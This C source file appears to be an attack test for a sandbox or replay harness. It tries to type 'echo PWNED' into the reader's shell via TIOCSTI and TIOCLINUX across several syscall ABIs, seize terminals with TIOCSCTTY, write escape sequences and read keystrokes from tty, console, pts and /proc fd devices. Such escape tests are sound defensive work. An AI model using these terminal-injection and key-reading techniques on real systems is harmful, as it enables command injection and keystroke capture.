// Types into the reader's shell, writes raw to the terminal, reads the reader's keys: by every name and every entry.
#include "attack.h"
#include <termios.h>

static const char line[] = "echo PWNED\n", escape[] = "\033]0;31337\007\033[31337n";

static void type_into(int fd) {
  char *one = low(4096);
  if (!one) return;
  for (const char *at = line; *at; at++) {
    *one = *at;
    ioctl(fd, TIOCSTI, one);
    syscall(SYS_ioctl, fd, 0x100000000UL | TIOCSTI, one);
    syscall(SYS_ioctl | X32, fd, TIOCSTI, one);
    syscall(514 | X32, fd, TIOCSTI, one);
    call32(54, fd, TIOCSTI, (long)one, 0);
  }
  /* TIOCLINUX: paste. */
  *one = 3;
  ioctl(fd, 0x541C, one);
  syscall(SYS_ioctl, fd, 0x10000541CUL, one);
  call32(54, fd, 0x541C, (long)one, 0);
}

static void attack(void) {
  static const char *names[] = {"/dev/tty", "/dev/tty0", "/dev/tty1", "/dev/console", "/dev/ttyS0", "/dev/pts/0", "/dev/pts/1", "/proc/self/fd/0", "/proc/1/fd/0", "/proc/1/fd/1", 0};
  /* Pipes and files of the replay are no terminal; what is one is attacked. */
  for (int fd = 0; fd < 16; fd++) type_into(fd);
  for (const char **name = names; *name; name++) {
    int fd = open(*name, O_RDWR | O_NONBLOCK);
    if (fd < 0) fd = open(*name, O_WRONLY | O_NONBLOCK);
    if (fd < 0 || !isatty(fd)) continue;
    ioctl(fd, TIOCSCTTY, 1);
    type_into(fd);
    if (write(fd, escape, sizeof escape - 1) > 0) gained(*name);
    for (int turn = 0; turn < 12; turn++, usleep(100000)) {
      char keys[64];
      ssize_t size = read(fd, keys, sizeof keys - 1);
      if (size <= 0) continue;
      keys[size] = 0;
      gained(keys);
    }
    close(fd);
  }
}

int main(void) {
  say("ran\n");
  signal(SIGTTIN, SIG_IGN), signal(SIGTTOU, SIG_IGN);
  attack();
  if (fork() == 0) {
    setsid();
    attack();
    _exit(0);
  }
  wait(0);
  return 0;
}
